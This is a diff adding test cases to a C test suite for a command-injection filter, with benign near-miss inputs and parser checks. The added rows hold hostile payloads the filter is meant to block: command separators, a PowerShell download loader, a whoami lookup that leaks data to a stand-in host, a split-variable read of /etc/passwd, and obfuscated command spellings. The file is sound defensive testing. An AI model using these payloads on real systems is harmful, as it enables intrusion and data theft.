@@ -64,6 +64,16 @@ static void blocks_what_becomes_a_command(void **state)
         {"cmdi.loader",
          PEN_STR("IEX (New-Object Net.WebClient).DownloadString('http://h.example')")},
         {"cmdi.option", PEN_STR("-oProxyCommand=id")},
+        {"cmdi.separator", PEN_STR(";git clone http://h.example/x")},
+        {"cmdi.separator", PEN_STR("& wmic process list")},
+        {"cmdi.separator", PEN_STR(";sudo -u www id")},
+        {"cmdi.separator", PEN_STR(";reboot")},
+        {"cmdi.separator", PEN_STR(";a=ca;b=t;$a$b /etc/passwd")},
+        {"cmdi.substitution", PEN_STR(";host `whoami`.h.example")},
+        {"cmdi.spelled", PEN_STR(";who``ami")},
+        {"cmdi.spelled", PEN_STR(";wh$()oami")},
+        {"cmdi.spelled", PEN_STR(";${PATH:0:1}bin${PATH:0:1}id")},
+        {"cmdi.separator", PEN_STR("x|+dir+c:\\")},
     };
     for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
         const struct pen_judgement judgement = filter_case_text(&it, rows[i].text);
@@ -103,6 +113,13 @@ static void stays_silent_on_ordinary_text(void **state)
         {"a program's path", PEN_STR("/usr/bin/python3")},
         {"a number", PEN_STR("-5")},
         {"a method", PEN_STR("constructor() { super(); }")},
+        {"a query of logs", PEN_STR("index=main status>=500 | stats count by host | sort -count")},
+        {"a row of Markdown", PEN_STR("| git clone http://h.example/x | a copy |")},
+        {"words behind a separator", PEN_STR("; go home and see who is there")},
+        {"an image's recipe", PEN_STR("RUN npm ci && npm run build; rm -rf /root/.npm")},
+        {"a fence", PEN_STR("```bash\nnpm ci\n```")},
+        {"an empty code", PEN_STR("a `` b")},
+        {"a sum", PEN_STR("a|+5|-3")},
     };
     for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
         const struct pen_judgement judgement = filter_case_text(&it, rows[i].text);
@@ -130,6 +147,10 @@ static void a_declared_sink_lowers_the_threshold(void **state)
     assert_int_not_equal(filter_case_text(&it, text).verdict, PEN_BLOCK);
     assert_int_equal(filter_case_text(&strict, text).verdict, PEN_BLOCK);
     assert_int_not_equal(filter_case_text(&strict, PEN_S("fish | chips")).verdict, PEN_BLOCK);
+    assert_int_equal(filter_case_text(&strict, PEN_S("`true`")).verdict, PEN_BLOCK);
+    assert_int_equal(filter_case_text(&strict, PEN_S("/usr/bin/id")).verdict, PEN_BLOCK);
+    assert_int_not_equal(filter_case_text(&strict, PEN_S("```bash\nnpm ci\n```")).verdict,
+                         PEN_BLOCK);
     filter_case_close(&strict);
 }
 
@@ -184,6 +205,12 @@ static void reads_a_word_as_a_shell_does(void **state)
     assert_word(PEN_S(";{cat,x}"), "cat");
     assert_word(PEN_S(";A=1 B=2 cat x"), "cat");
     assert_word(PEN_S(";(cat x)"), "cat");
+    assert_word(PEN_S(";sudo -u www A=1 cat x"), "cat");
+    assert_word(PEN_S(";timeout 5 cat x"), "cat");
+    assert_word(PEN_S(";time flies"), "time");
+    assert_word(PEN_S(";c$()at x"), "cat");
+    assert_word(PEN_S(";c``at x"), "cat");
+    assert_word(PEN_S(";${HOME:0:1}bin${HOME:0:1}cat x"), "cat");
     assert_word(PEN_S("';cat'"), "cat");
     assert_word(PEN_S("&C:\\Windows\\cmd.exe"), "cmd.exe");
 }
@@ -191,9 +218,9 @@ static void reads_a_word_as_a_shell_does(void **state)
 static void takes_linear_time_whatever_the_text(void **state)
 {
     (void)state;
-    static const char *const units[] = {";",   "|id",      "`",    "$(",  "${",   "$IFS",
-                                        "';'", "system('", "() {", "{a,", "A=1 ", "%a",
-                                        "\\n", "<?",       ":~",   "-",   "/",    "\n"};
+    static const char *const units[] = {
+        ";",   "|id", "`",  "$(", "${", "$IFS", "';'",  "system('", "() {", "{a,", "A=1 ", "%a",
+        "\\n", "<?",  ":~", "-",  "/",  "\n",   "a``a", ";sudo ",   "$()",  "|+a", ";$a"};
     static char text[60000];
     for (size_t u = 0; u < PEN_COUNT_OF(units); u++) {
         struct pen_buf buf = pen_buf_over(text, sizeof(text));
